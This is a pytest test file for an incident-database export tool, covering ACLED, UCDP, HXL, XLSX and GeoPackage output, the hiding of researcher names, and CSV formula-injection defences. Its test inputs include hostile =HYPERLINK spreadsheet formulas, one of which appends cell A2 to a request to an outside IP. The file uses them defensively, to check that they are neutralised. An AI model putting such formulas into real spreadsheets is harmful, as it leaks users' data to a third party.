"""What each export keeps, says and leaves out: plain CSV tables described beside them, every format described
inside, ACLED/UCDP never writing 0 for an unknown toll, HXL that libhxl's validator accepts, viewers' files without
researchers' names, and formula-like text neutralised after cleaning in every table format (#12, #13, #17)."""

from __future__ import annotations

import csv
import io
import json
import re
import socket
import tempfile
from datetime import date, datetime
from pathlib import Path

import pandas as pd
import pytest
from hypothesis import given
from hypothesis import strategies as st
from openpyxl import load_workbook

from incidents.analysis.filters import DEFAULT_GRADINGS, Filter
from incidents.domain import taxonomy
from incidents.domain.users import LOCAL_USER, User
from incidents.io import acled, ucdp
from incidents.io.columns import COLUMNS
from incidents.io.exporter import (
    CSV_FORMATS,
    FORMATS,
    csv_sidecar,
    describe_export,
    export_incidents,
    shows_authors,
)
from incidents.io.tables import looks_like_formula, neutralise, unneutralise
from incidents.services.importer import read_incidents
from incidents.services.sample import open_with_sample
from incidents.services.service import create_incidents, format_audit_entries

#: A control character, then a live formula: what a cleaning step turns back into "=HYPERLINK(…)".
HOSTILE = '\x01=HYPERLINK("http://198.51.100.7/x","details")'
RESEARCHER = "amal.researcher"
UNFILTERED = Filter(gradings=()).caption(3)


def _incidents(make):
    return [
        make(uid="known-toll", killed_min=4, killed_max=9, killed_best=6, grading="fair", description="A strike.",
             claim=dict(killed_min=4, killed_max=9)),
        make(uid="unknown-toll", killed_min=None, killed_max=None, civilians="unknown", actor="isis", description="Shelling.",
             event_type="shelling", claim=dict(killed_min=None, killed_max=None, civilians="unknown")),
        make(uid="hostile", description=HOSTILE, place_text=HOSTILE, target=HOSTILE, created_by=RESEARCHER,
             updated_by=RESEARCHER, claim=dict(quote=HOSTILE, source_name=HOSTILE, created_by=RESEARCHER)),
    ]


def _gpkg_tables(data: bytes) -> dict[str, pd.DataFrame]:
    import pyogrio

    with tempfile.TemporaryDirectory() as folder:
        path = Path(folder) / "x.gpkg"
        path.write_bytes(data)
        return {name: pd.DataFrame(pyogrio.read_dataframe(path, layer=name)) for name, _ in pyogrio.list_layers(path)}


def _xlsx_sheets(data: bytes) -> dict[str, list[list]]:
    book = load_workbook(io.BytesIO(data))  # not data_only: a formula comes back as its text "=…"
    return {s.title: [list(r) for r in s.iter_rows(values_only=True)] for s in book.worksheets}


def _table_cells(data: bytes, fmt: str) -> list[str]:
    """Every text cell of a table export, as a spreadsheet program would receive it."""
    if fmt == "xlsx":
        return [c for rows in _xlsx_sheets(data).values() for row in rows for c in row if isinstance(c, str)]
    if fmt == "gpkg":
        return [c for frame in _gpkg_tables(data).values() for c in frame.drop(columns="geometry", errors="ignore")
                .to_numpy().ravel() if isinstance(c, str)]
    return [c for row in csv.reader(io.StringIO(data.decode("utf-8-sig"), newline="")) for c in row]


# -- ACLED and UCDP (#13) ------------------------------------------------------------------------------------


def test_acled_round_trip_keeps_what_acled_can_hold_and_never_writes_0_for_unknown(incident_factory):
    originals = {i.uid: i for i in _incidents(incident_factory)[:2]}
    data = export_incidents(list(originals.values()), "acled")
    rows = list(csv.DictReader(io.StringIO(data.decode("utf-8-sig"))))
    assert [r["fatalities"] for r in rows] == ["4", ""]  # the minimum; blank, not 0, when nobody knows
    back = {i.external_id: i for i in read_incidents(data, "acled.csv", fmt="acled").valid}  # ACLED's event id
    for uid, original in originals.items():
        again = back[uid]
        kept = ("date_start", "date_precision", "event_type", "actor", "lat", "lon", "location_precision",
                "civilians", "description")
        assert {k: getattr(again, k) for k in kept} == {k: getattr(original, k) for k in kept}
        assert again.place_text == original.place_name_en
        assert again.killed_min == original.killed_min and again.killed_max == original.killed_min
    assert back["unknown-toll"].killed_min is None and back["unknown-toll"].killed_max is None


def test_ucdp_export_leaves_an_unknown_toll_blank(incident_factory):
    data = export_incidents(_incidents(incident_factory)[:2], "ucdp")
    known, unknown = csv.DictReader(io.StringIO(data.decode("utf-8-sig")))
    assert (known["low"], known["best"], known["high"], known["deaths_civilians"]) == ("4", "6", "9", "6")
    deaths = ("low", "best", "high", "deaths_a", "deaths_b", "deaths_civilians", "deaths_unknown")
    assert {k: unknown[k] for k in deaths} == dict.fromkeys(deaths, "")


@pytest.mark.parametrize("fmt", ["acled", "ucdp"])
def test_external_formats_say_what_they_cannot_hold(fmt):
    lines = describe_export(fmt, UNFILTERED)
    cannot = next(line for line in lines if line.startswith("Cannot hold:"))
    assert "grading" in cannot and ("maximum" in cannot)
    assert any("blank when unknown" in line and "never 0" in line for line in lines)


# -- HXL (#13) ----------------------------------------------------------------------------------------------

#: This project's own rules for its HXL export, declared here as a libhxl schema (rows of #valid_* hashtags).
PROJECT_SCHEMA = [
    ["#valid_tag", "#valid_severity", "#valid_required+min", "#valid_unique", "#valid_datatype",
     "#valid_value+min", "#valid_value+max", "#valid_value+list"],
    ["#event+id", "error", "1", "true", "", "", "", ""],
    ["#affected", "error", "", "", "number", "0", "", ""],
    ["#date", "error", "", "", "date", "", "", ""],
    ["#geo+lat", "error", "", "", "number", "-90", "90", ""],
    ["#geo+lon", "error", "", "", "number", "-180", "180", ""],
    ["#status+grading", "error", "1", "", "", "", "", "|".join(taxonomy.codes("grading"))],
    ["#org+perpetrator", "error", "1", "", "", "", "", "|".join(taxonomy.codes("actor"))],
    ["#meta+civilians", "error", "1", "", "", "", "", "yes|no|unknown"],
]


@pytest.fixture
def offline(monkeypatch):
    """Fail the test if anything opens a network connection (libhxl can fetch schemas and data by URL)."""
    def refuse(*args, **kwargs):
        raise AssertionError(f"network access during an offline test: {args}")

    monkeypatch.setattr(socket.socket, "connect", refuse)
    monkeypatch.setattr(socket, "create_connection", refuse)


def _hxl_issues(data: bytes, schema=None) -> dict:
    """Run libhxl's validator (offline: data from memory, the schema given or libhxl's bundled default)."""
    import hxl

    report = hxl.validate(hxl.data(io.BytesIO(data)), schema)
    issues: dict = {"valid": report["is_valid"], "error": [], "warning": [], "info": []}
    for issue in report["issues"]:
        where = issue["tag_pattern"]
        if issue["severity"] == "warning":  # name the columns a warning is about, not libhxl's "#*"
            where = ",".join(sorted({loc.get("hashtag", "") for loc in issue.get("locations", [])})) or where
        issues[issue["severity"]].append((where, issue["description"]))
    return issues


def test_libhxl_validates_the_hxl_export(sqlite_url, incident_factory, offline):
    store = open_with_sample(sqlite_url)  # the sample: incidents of real published reports
    create_incidents(store, LOCAL_USER, _incidents(incident_factory))
    data = export_incidents(store.list_incidents(), "csv", hxl=True, about=UNFILTERED)
    store.engine.dispose()
    default = _hxl_issues(data)
    # Quotes are kept verbatim (line breaks included: the sentence is traceable to the report), which libhxl's
    # whitespace check warns about; no other warning is allowed.
    verbatim = ("#meta+quote", "Extra whitespace can affect reporting and visualisation")
    assert default["error"] == [] and [w for w in default["warning"] if w != verbatim] == [], default
    # libhxl's default schema also points out large tolls as "possible outliers" (info): a hint about the data,
    # which is why it reports is_valid False for them; nothing else is allowed.
    assert {description for _, description in default["info"]} <= {"Possible numeric outlier"}
    project = _hxl_issues(data, PROJECT_SCHEMA)
    assert project["valid"] and not project["error"], project


def test_the_project_schema_catches_a_broken_hxl_export(offline):
    """The schema is not vacuous: a count column holding yes/no and a duplicated id are errors."""
    broken = (b"uid,killed_min,civilians,grading,actor\n#event+id,#affected+killed+min,#affected+civilians,"
              b"#status+grading,#org+perpetrator\na,3,yes,fair,isis\na,,no,fair,isis\n")
    result = _hxl_issues(broken, PROJECT_SCHEMA)
    assert not result["valid"]
    assert {tag for tag, _ in result["error"]} == {"#event+id", "#affected", "#meta+civilians"}


# -- plain CSV, descriptions everywhere, all gradings (#17, #13) -----------------------------------------------


@pytest.mark.parametrize("fmt", CSV_FORMATS)
def test_a_filtered_csv_reads_back_as_a_plain_table(incident_factory, fmt):
    about = Filter(actors=("isis",)).caption(1)
    data = export_incidents(_incidents(incident_factory)[1:2], fmt, about=about)
    frame = pd.read_csv(io.BytesIO(data))
    expected = {"csv": COLUMNS, "acled": acled.COLUMNS, "ucdp": ucdp.COLUMNS}[fmt]
    assert list(frame.columns) == list(expected) and len(frame) == 1
    sidecar = json.loads(csv_sidecar(fmt, "incidents.csv", about))
    assert sidecar["url"] == "incidents.csv" and sidecar["dc:description"][0] == f"Incidents: {about}"
    assert [c["name"] for c in sidecar["tableSchema"]["columns"]] == list(expected)


def test_the_comment_header_is_opt_in_and_skippable(incident_factory):
    about = Filter(actors=("isis",)).caption(1)
    data = export_incidents(_incidents(incident_factory)[1:2], "csv", about=about, comment_header=True)
    lines = data.decode("utf-8-sig").splitlines()
    header_lines = [line for line in lines if line.startswith("# ")]
    assert header_lines[0] == f"# Incidents: {about}"
    frame = pd.read_csv(io.BytesIO(data), skiprows=len(header_lines))
    assert list(frame.columns) == list(COLUMNS)


def test_an_unfiltered_selection_says_all_gradings():
    assert Filter(gradings=()).describe() == "all actors · all dates · all gradings"
    assert "كل التقييمات" in Filter(gradings=()).describe("ar")
    assert "grading" not in Filter(gradings=DEFAULT_GRADINGS).describe()


@pytest.mark.parametrize("about", [None, UNFILTERED])
def test_geojson_xlsx_and_gpkg_are_described_inside_even_unfiltered(incident_factory, about):
    items = _incidents(incident_factory)
    expected = describe_export("geojson", about)
    metadata = json.loads(export_incidents(items, "geojson", about=about))["metadata"]
    assert metadata["description"] == expected
    sheet = _xlsx_sheets(export_incidents(items, "xlsx", about=about))["about"]
    assert [row[0] for row in sheet[1:]] == describe_export("xlsx", about)
    tables = _gpkg_tables(export_incidents(items, "gpkg", about=about))
    assert set(tables) == {"incidents", "claims", "about"}
    assert tables["about"]["about"].tolist() == describe_export("gpkg", about)
    if about:
        assert metadata["about"] == about and "all gradings" in tables["about"]["about"][0]


# -- viewers' exports leave researchers' names out (#12, item 5) ----------------------------------------------


def test_who_may_see_the_names_follows_the_history_rule():
    assert not shows_authors(User("vi", "viewer"))
    assert shows_authors(User("vi", "viewer", can_see_unpublished=True))
    assert shows_authors(User("ed", "editor")) and shows_authors(LOCAL_USER)


@pytest.mark.parametrize("fmt", FORMATS)
def test_an_export_without_authors_has_no_name_columns(incident_factory, fmt):
    items = _incidents(incident_factory)
    with_names = export_incidents(items, fmt, authors=True)
    without = export_incidents(items, fmt, authors=False)
    if fmt in ("csv", "acled", "ucdp", "geojson"):
        assert RESEARCHER.encode() not in without
        assert (RESEARCHER.encode() in with_names) == (fmt in ("csv", "geojson"))
    if fmt == "csv":
        header = pd.read_csv(io.BytesIO(without)).columns
        assert "created_by" not in header and "updated_by" not in header
        assert all("created_by" not in c for c in json.loads(pd.read_csv(io.BytesIO(without))["claims"][2]))
    if fmt == "geojson":
        feature = json.loads(without)["features"][2]["properties"]
        assert not {"created_by", "updated_by"} & set(feature)
        assert "created_by" not in feature["claims"][0]
    if fmt == "xlsx":
        headers = {name: rows[0] for name, rows in _xlsx_sheets(without).items()}
        assert not any(h in ("created_by", "updated_by") for row in headers.values() for h in row)
        assert RESEARCHER in str(_xlsx_sheets(with_names))
    if fmt == "gpkg":
        tables = _gpkg_tables(without)
        assert not any({"created_by", "updated_by"} & set(frame.columns) for frame in tables.values())
        assert RESEARCHER not in str([frame.to_numpy().tolist() for frame in tables.values()])


# -- formulas neutralised after cleaning, in every table export (#12, items 7 and 8) --------------------------


@pytest.mark.parametrize("fmt, hxl", [("csv", False), ("csv", True), ("xlsx", False), ("gpkg", False),
                                      ("acled", False), ("ucdp", False)])
def test_a_control_character_before_a_formula_does_not_make_it_live(incident_factory, fmt, hxl):
    data = export_incidents(_incidents(incident_factory), fmt, hxl=hxl)
    cells = _table_cells(data, fmt)
    assert any(c.startswith("'") and "HYPERLINK" in c for c in cells), "the hostile text is in the export"
    # what a spreadsheet sees once control characters and leading spaces are dropped
    seen = [re.sub(r"[\x00-\x1f\x7f]", "", c).lstrip() for c in cells]
    assert not [c for c in seen if c.startswith(("=", "+", "-", "@"))]
    if fmt == "xlsx":
        book = load_workbook(io.BytesIO(data))
        assert not [c.coordinate for s in book.worksheets for r in s.iter_rows() for c in r if c.data_type == "f"]


def test_audit_and_history_csv_neutralise_uids_and_reasons():
    entry = {"id": 1, "at": datetime(2026, 1, 2, 3, 4, 5), "user_name": "ed", "action": "updated",
             "entity": "incident", "entity_uid": '=HYPERLINK("http://198.51.100.7/x")', "changes": {"grading": [
                 "weak", "fair"]}, "reason": HOSTILE}
    rows = list(csv.DictReader(io.StringIO(format_audit_entries([entry], "csv").decode("utf-8"))))
    assert rows[0]["entity_uid"] == "'" + entry["entity_uid"]
    assert rows[0]["reason"] == "'" + HOSTILE
    assert rows[0]["user_name"] == "ed" and json.loads(rows[0]["changes"]) == {"grading": ["weak", "fair"]}
    line = json.loads(format_audit_entries([entry], "jsonl"))  # JSON lines stay the record as stored
    assert line["entity_uid"] == entry["entity_uid"] and line["reason"] == HOSTILE


@pytest.mark.parametrize("text, neutralised", [
    ("=1+1", True), ("\x01=HYPERLINK(1)", True), (" =1", True), ("\u200f-3 killed", True), ("\t@x", True),
    ("-", True), ("3 killed", False), ("Hajin", False), ("'=x", True), ("''+963", True), ("'Ali", False), ("''We saw", False), ("a=b", False),
    ("", False),
])
def test_which_text_is_neutralised(text, neutralised):
    assert (neutralise(text) != text) == neutralised


@given(st.text(max_size=30))
def test_neutralised_text_never_reads_as_a_formula_and_reads_back(text):
    written = neutralise(text)
    assert not written.startswith(("=", "+", "-", "@")) and not looks_like_formula(written)
    assert unneutralise(written) == text  # a leading apostrophe that was in the text is kept (it was dropped)


def test_the_round_trip_keeps_hostile_text_exactly(sqlite_store, incident_factory):
    create_incidents(sqlite_store, LOCAL_USER, [incident_factory(
        uid="x", claim=dict(quote="\u200f-3 قتلى", published=date(2019, 1, 1)))])
    back = read_incidents(export_incidents(sqlite_store.list_incidents(), "csv"), "x.csv").valid[0]
    assert back.claims[0].quote == "\u200f-3 قتلى"


def test_a_file_header_written_back_in_rejected_rows_is_neutralised():
    """The rejected-rows CSV repeats the uploaded file's own header: a column named like a formula must not run
    when the researcher opens that file (the audit reproduced it with =HYPERLINK)."""
    from incidents.io.tables import write_csv, write_xlsx

    hostile = '=HYPERLINK("http://198.51.100.7/?"&A2,"open")'
    header = next(csv.reader(io.StringIO(write_csv(["place", hostile], [{"place": "Hajin"}]).decode("utf-8-sig"))))
    assert header == ["place", "'" + hostile]
    from openpyxl import load_workbook

    sheet = load_workbook(io.BytesIO(write_xlsx({"rows": (["place", hostile], [{"place": "Hajin"}])}))).active
    assert [c.value for c in sheet[1]] == ["place", "'" + hostile]
